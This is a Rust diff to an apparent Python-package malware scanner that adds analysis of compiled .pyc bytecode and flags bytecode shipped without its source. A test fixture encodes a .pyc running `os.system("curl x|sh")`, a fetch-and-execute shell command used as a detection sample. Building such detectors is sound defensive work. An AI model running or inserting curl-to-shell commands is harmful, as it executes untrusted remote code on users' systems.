@@ -7,12 +7,14 @@
 //! name against popular projects, the modules it ships, compiled executables). Findings carry
 //! `file:line` evidence; scoring lives in `wheelhound-scoring`.
 
+pub mod bytecode;
 pub mod context;
 pub mod deadline;
 pub mod decode;
 pub mod eager;
 pub mod finding;
 pub mod fold;
+pub mod marshal;
 pub mod metadata;
 pub mod names;
 pub mod package;
@@ -118,9 +120,13 @@ pub struct FileAnalysis {
     pub bytes: usize,
 }
 
-/// Decides whether a member is analysed as Python: by name, or by a Python shebang.
+/// Decides whether a member is analysed as Python: by name, by a Python shebang, or as
+/// compiled bytecode (`.pyc`/`.pyo` with a Python magic number).
 pub fn is_python_member(path: &str, data: &[u8]) -> bool {
     let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
+    if is_bytecode_name(&name) {
+        return marshal::is_pyc(data);
+    }
     if name.ends_with(".py")
         || name.ends_with(".pyw")
         || name.ends_with(".pth")
@@ -132,6 +138,38 @@ pub fn is_python_member(path: &str, data: &[u8]) -> bool {
     head.starts_with(b"#!")
         && memchr::memmem::find(head.split(|&b| b == b'\n').next().unwrap_or(&[]), b"python")
             .is_some()
+}
+
+fn is_bytecode_name(name: &str) -> bool {
+    name.ends_with(".pyc") || name.ends_with(".pyo")
+}
+
+/// The source file a `.pyc` was compiled from: `pkg/__pycache__/mod.cpython-311.pyc` and
+/// `pkg/mod.pyc` are both `pkg/mod.py`. `None` for other paths.
+pub fn bytecode_source_path(path: &str) -> Option<String> {
+    let (dir, name) = match path.rsplit_once('/') {
+        Some((dir, name)) => (Some(dir), name),
+        None => (None, path),
+    };
+    if !is_bytecode_name(&name.to_ascii_lowercase()) {
+        return None;
+    }
+    let stem = name.split('.').next().filter(|s| !s.is_empty())?;
+    let dir = match dir {
+        Some("__pycache__") => None,
+        Some(dir) => Some(dir.strip_suffix("/__pycache__").unwrap_or(dir)),
+        None => None,
+    };
+    Some(match dir {
+        Some(dir) => format!("{dir}/{stem}.py"),
+        None => format!("{stem}.py"),
+    })
+}
+
+/// Adds the evidence of a `.pyc` shipped without the source it was compiled from (the caller
+/// knows the package's other members): code only the interpreter reads.
+pub fn note_bytecode_without_source(analysis: &mut FileAnalysis) {
+    rules::obfuscation_layout::bytecode_without_source(analysis);
 }
 
 /// How another file of the package runs this one while loading.
@@ -168,6 +206,10 @@ pub fn analyze_python_called(
 ) -> FileAnalysis {
     // Started before the source is decoded, so the budget covers the whole file.
     let deadline = Deadline::after(options.max_file_time);
+    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
+    if is_bytecode_name(&name) && marshal::is_pyc(bytes) {
+        return analyze_bytecode(path, bytes, options, caller, deadline);
+    }
     let decoded = source::decode_source(bytes);
     let role = match FileRole::of_path_in(path, &caller.own_modules) {
         FileRole::TestOrDocs if caller.imported_by_shipped_code => FileRole::Module,
@@ -214,6 +256,71 @@ pub fn analyze_python_called(
             false,
         );
     }
+    if budget.deadline.has_passed() {
+        analysis.time_budget_hit = true;
+        analysis.errors.push(format!(
+            "analysis of {path} stopped after {} s: time budget; findings so far are kept",
+            budget.deadline.budget().as_secs_f64()
+        ));
+    }
+    analysis
+}
+
+/// A `.pyc`: its module code object, rendered as source, is analysed as the module it was
+/// compiled from would be, with that module's role (`__init__`, setup.py, test, ...).
+fn analyze_bytecode(
+    path: &str,
+    bytes: &[u8],
+    options: &AnalysisOptions,
+    caller: &CallerContext,
+    deadline: Deadline,
+) -> FileAnalysis {
+    let source_path = bytecode_source_path(path).unwrap_or_else(|| path.to_owned());
+    let role = match FileRole::of_path_in(&source_path, &caller.own_modules) {
+        FileRole::TestOrDocs if caller.imported_by_shipped_code => FileRole::Module,
+        role => role,
+    };
+    let mut analysis = FileAnalysis {
+        path: path.to_owned(),
+        role,
+        findings: Vec::new(),
+        sources: Vec::new(),
+        facts: Facts::default(),
+        layers: Vec::new(),
+        errors: Vec::new(),
+        syntax_errors: 0,
+        time_budget_hit: false,
+        lines: 0,
+        bytes: bytes.len(),
+    };
+    let Some(text) = bytecode::unmarshal_to_source(bytes, true, options.max_decode_bytes) else {
+        analysis
+            .errors
+            .push("compiled bytecode whose code object could not be read".to_owned());
+        return analysis;
+    };
+    let mut budget = LayerBudget {
+        remaining_bytes: options.max_layer_bytes,
+        next_index: 1,
+        deadline,
+    };
+    analyze_module(
+        &mut analysis,
+        path,
+        &text,
+        role,
+        None,
+        Some(caller),
+        options,
+        0,
+        &mut budget,
+        &[],
+        false,
+    );
+    // Rendered source parses imperfectly where the renderer guessed; those are not the file's
+    // syntax errors.
+    analysis.syntax_errors = 0;
+    analysis.errors.retain(|e| !e.contains("syntax error"));
     if budget.deadline.has_passed() {
         analysis.time_budget_hit = true;
         analysis.errors.push(format!(
@@ -454,4 +561,85 @@ fn chunk_str(text: &str, size: usize) -> impl Iterator<Item = (usize, &str)> {
         start = end;
         Some(chunk)
     })
+}
+
+#[cfg(test)]
+mod bytecode_tests {
+    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+    use super::*;
+
+    /// A CPython 3.11 `.pyc` of `import os\nos.system("curl x|sh")`: magic 3495, 12 header bytes.
+    fn pyc() -> Vec<u8> {
+        let mut data = vec![0xa7, 0x0d, b'\r', b'\n'];
+        data.extend([0u8; 12]);
+        data.extend(
+            decode::decode(decode::Codec::Hex, b"630000000000000000000000000300000000000000f32e0000009700640064016c005a00020065006a0100000000000000006402a6010000ab0100000000000000000100640153002903e9000000004e7a096375726c20787c73682902da026f73da0673797374656da900f300000000da0166fa083c6d6f64756c653e7207000000010000007326000000f003010101d80009800980098009d8000980028409882bd10016d40016d00016d00016d000167205000000").unwrap(),
+        );
+        data
+    }
+
+    #[test]
+    fn pyc_members_are_analysed_as_their_module() {
+        let path = "pkg/__pycache__/__init__.cpython-311.pyc";
+        assert!(is_python_member(path, &pyc()));
+        assert!(!is_python_member("pkg/x.pyc", b"not bytecode"));
+        let analysis = analyze_python(path, &pyc(), &AnalysisOptions::default());
+        assert_eq!(analysis.role, FileRole::PackageInit);
+        let spawn = analysis
+            .findings
+            .iter()
+            .find(|f| f.rule == "WH120")
+            .expect("os.system in the bytecode");
+        assert_eq!((spawn.line, spawn.context), (2, ExecContext::Import));
+        assert!(spawn.severity >= 0.85);
+        let test = analyze_python(
+            "pkg/tests/__pycache__/t.cpython-311.pyc",
+            &pyc(),
+            &AnalysisOptions::default(),
+        );
+        assert!(
+            test.findings
+                .iter()
+                .all(|f| f.context == ExecContext::TestOrDocs)
+        );
+        // A truncated .pyc is an error note, never a crash.
+        let cut = pyc();
+        let cut = cut.get(..40).unwrap();
+        let broken = analyze_python(path, cut, &AnalysisOptions::default());
+        assert!(broken.findings.is_empty() && !broken.errors.is_empty());
+    }
+
+    #[test]
+    fn bytecode_without_source_is_modest_evidence() {
+        assert_eq!(
+            bytecode_source_path("pkg/__pycache__/mod.cpython-311.pyc").as_deref(),
+            Some("pkg/mod.py")
+        );
+        assert_eq!(
+            bytecode_source_path("pkg/mod.pyc").as_deref(),
+            Some("pkg/mod.py")
+        );
+        assert_eq!(
+            bytecode_source_path("__pycache__/m.cpython-37.pyc").as_deref(),
+            Some("m.py")
+        );
+        assert_eq!(bytecode_source_path("pkg/mod.py"), None);
+        let mut analysis = analyze_python("pkg/mod.pyc", &pyc(), &AnalysisOptions::default());
+        note_bytecode_without_source(&mut analysis);
+        let note = analysis
+            .findings
+            .iter()
+            .find(|f| f.has_tag("bytecode-only"))
+            .unwrap();
+        assert_eq!(note.rule, "WH190");
+        assert!((0.2..=0.4).contains(&note.severity));
+        let mut test = analyze_python("pkg/tests/x.pyc", &pyc(), &AnalysisOptions::default());
+        note_bytecode_without_source(&mut test);
+        assert!(
+            test.findings
+                .iter()
+                .filter(|f| f.has_tag("bytecode-only"))
+                .all(|f| f.severity < 0.1)
+        );
+    }
 }
